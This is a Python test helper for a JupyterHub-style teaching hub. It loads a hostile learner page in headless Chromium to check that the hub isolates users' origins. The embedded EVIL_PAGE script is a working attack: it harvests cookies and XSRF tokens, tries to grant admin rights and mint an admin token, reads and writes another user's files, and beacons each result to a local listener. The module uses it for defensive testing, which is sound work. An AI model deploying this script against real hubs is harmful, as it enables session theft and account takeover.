"""A learner's page, opened by someone else in a real browser (Debian's Chromium through
Playwright): tests/test_hub.py's check of the room's first promise, that no page a learner
controls runs script on another user's origin.

The page is hostile script (:data:`EVIL_PAGE`): it reads every cookie it can reach (its own
document, a frame and a window of the hub, the hub's page fetched without CORS, the cookie store),
tries to make its learner admin and to mint the instructor a token with whatever XSRF token it
found, and tries to list and write the other learner's files and start a kernel of theirs. Each
step reports to a sink outside the room (:class:`Sink`, a local HTTP listener) as it goes. A room
that holds sends the sink nothing from any of the learner's addresses; :func:`calibrate` first
shows that the sink does hear the same page where it does run (served from the sink's own
origin), so silence is the room's doing, not a broken probe.
"""

from __future__ import annotations

import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent / "browser"))
from lab_driver import CHROMIUM_FLAGS, find_chromium, missing_requirements  # noqa: E402

__all__ = ["EVIL_PAGE", "Sink", "browser", "calibrate", "missing_requirements", "log_in", "visit"]

EVIL_PAGE = r"""<!doctype html><html><body><p>a learner's page</p><script>
const SINK = "__SINK__", OWNER = "__OWNER__", OTHER = "__OTHER__";
const found = {where: location.href};
function report(key, value) {
  found[key] = String(value).slice(0, 400);
  try { navigator.sendBeacon(SINK + "report", JSON.stringify(found)); } catch (e) {}
  try { new Image().src = SINK + "img?" + encodeURIComponent(key + "=" + found[key]); } catch (e) {}
}
const sleep = ms => new Promise(r => setTimeout(r, ms));
function xsrfIn(text) { const m = /_xsrf=([^;\s]+)/.exec(text || ""); return m ? m[1] : null; }
(async () => {
  report("ran", true);
  report("own_cookie", document.cookie);
  const tokens = [xsrfIn(document.cookie)];
  for (const url of ["/hub/home", "/hub/static/favicon.ico", "/hub/api/", "/user/" + OTHER + "/lab"]) {
    try {
      const f = document.createElement("iframe"); f.src = url; document.body.appendChild(f);
      await new Promise(r => { f.onload = r; setTimeout(r, 3000); });
      const c = f.contentDocument.cookie; report("frame_cookie " + url, c); tokens.push(xsrfIn(c));
    } catch (e) { report("frame_refused " + url, e.name); }
  }
  try {
    const w = window.open("/hub/home"); await sleep(2500);
    const c = w.document.cookie; report("window_cookie", c); tokens.push(xsrfIn(c));
  } catch (e) { report("window_refused", e.name); }
  try {
    const r = await fetch("/hub/home", {mode: "no-cors", credentials: "include"});
    const m = /xsrf_token: "([^"]+)"/.exec(await r.text());
    report("fetched_xsrf", m && m[1]); if (m) tokens.push(m[1]);
  } catch (e) { report("fetch_refused", e.name); }
  try {
    const all = await cookieStore.getAll({url: location.origin + "/hub/"}); report("cookie_store", JSON.stringify(all));
    for (const c of all) if (c.name === "_xsrf") tokens.push(c.value);
  } catch (e) { report("cookie_store_refused", e.name); }
  for (const t of [...new Set(tokens.filter(Boolean)), ""]) {
    for (const [method, url, body] of [["PATCH", "/hub/api/users/" + OWNER, {admin: true}],
                                       ["POST", "/hub/api/users/__ADMIN__/tokens", {note: "stolen"}]]) {
      try {
        const r = await fetch(url, {method, credentials: "include", body: JSON.stringify(body),
                                    headers: {"Content-Type": "application/json", "X-XSRFToken": t}});
        report(method + " " + url + " " + (t ? "with" : "without") + " a token",
               r.status + " " + (await r.text()).slice(0, 80));
      } catch (e) { report(method + " refused", e.name); }
    }
  }
  const theirs = "/user/" + OTHER + "/api";
  try { const r = await fetch(theirs + "/contents", {credentials: "include"});
        report("their_files", r.status + " " + (await r.text()).slice(0, 120));
  } catch (e) { report("their_files_refused", e.name); }
  try { const r = await fetch(theirs + "/contents/pwned.txt", {method: "PUT", credentials: "include",
        headers: {"Content-Type": "application/json"},
        body: JSON.stringify({type: "file", format: "text", content: "x"})});
        report("their_write", r.status); } catch (e) { report("their_write_refused", e.name); }
  try { const r = await fetch(theirs + "/kernels", {method: "POST", credentials: "include",
        headers: {"Content-Type": "application/json"}, body: "{}"});
        report("their_kernel", r.status); } catch (e) { report("their_kernel_refused", e.name); }
  report("done", true);
})();
</script></body></html>
"""


class Sink:
    """A local HTTP listener that keeps what the page reports; it also serves the page itself at
    /page, on an origin of its own (the calibration)."""

    def __init__(self):
        self.reports: list[dict] = []
        self.page = ""
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):  # quiet
                pass

            def _keep(self, body: str):
                sink.reports.append({"path": self.path, "body": body})

            def do_GET(self):
                if self.path.startswith("/page"):
                    data = sink.page.encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
                    return
                self._keep("")
                self.send_response(204)
                self.end_headers()

            def do_POST(self):
                length = int(self.headers.get("Content-Length") or 0)
                self._keep(self.rfile.read(length).decode(errors="replace"))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def page_for(self, owner: str, other: str, admin: str) -> str:
        return (EVIL_PAGE.replace("__SINK__", self.url).replace("__OWNER__", owner).replace("__OTHER__", other)
                .replace("__ADMIN__", admin))

    def heard(self) -> list[str]:
        """What the page reported, newest last: the keys it got to, with their values."""
        out = []
        for report in self.reports:
            if report["body"]:
                try:
                    out.append(json.dumps(json.loads(report["body"]), sort_keys=True))
                    continue
                except ValueError:
                    pass
            out.append(report["path"])
        return out

    def close(self):
        self.server.shutdown()


def browser(playwright):
    return playwright.chromium.launch(executable_path=find_chromium(), headless=True, args=CHROMIUM_FLAGS)


def log_in(context, hub_url: str, name: str, password: str):
    """A page of `context` logged in to the hub as `name`, through the login form."""
    page = context.new_page()
    page.goto(f"{hub_url}/hub/login", timeout=60_000)
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", password)
    page.click("[type=submit]")
    page.wait_for_load_state("load", timeout=120_000)
    return page


def visit(page, url: str, wait_ms: int = 1000) -> int | None:
    """Open `url` in `page` and give any script on it time to run; returns the HTTP status."""
    response = page.goto(url, timeout=60_000)
    page.wait_for_timeout(wait_ms)
    return response.status if response else None


def calibrate(playwright_browser, sink: Sink) -> list[str]:
    """The page, served from the sink's own origin: it runs there, so the sink hears it."""
    context = playwright_browser.new_context()
    try:
        visit(context.new_page(), sink.url + "page", 4000)
    finally:
        context.close()
    heard = sink.heard()
    sink.reports.clear()
    return heard
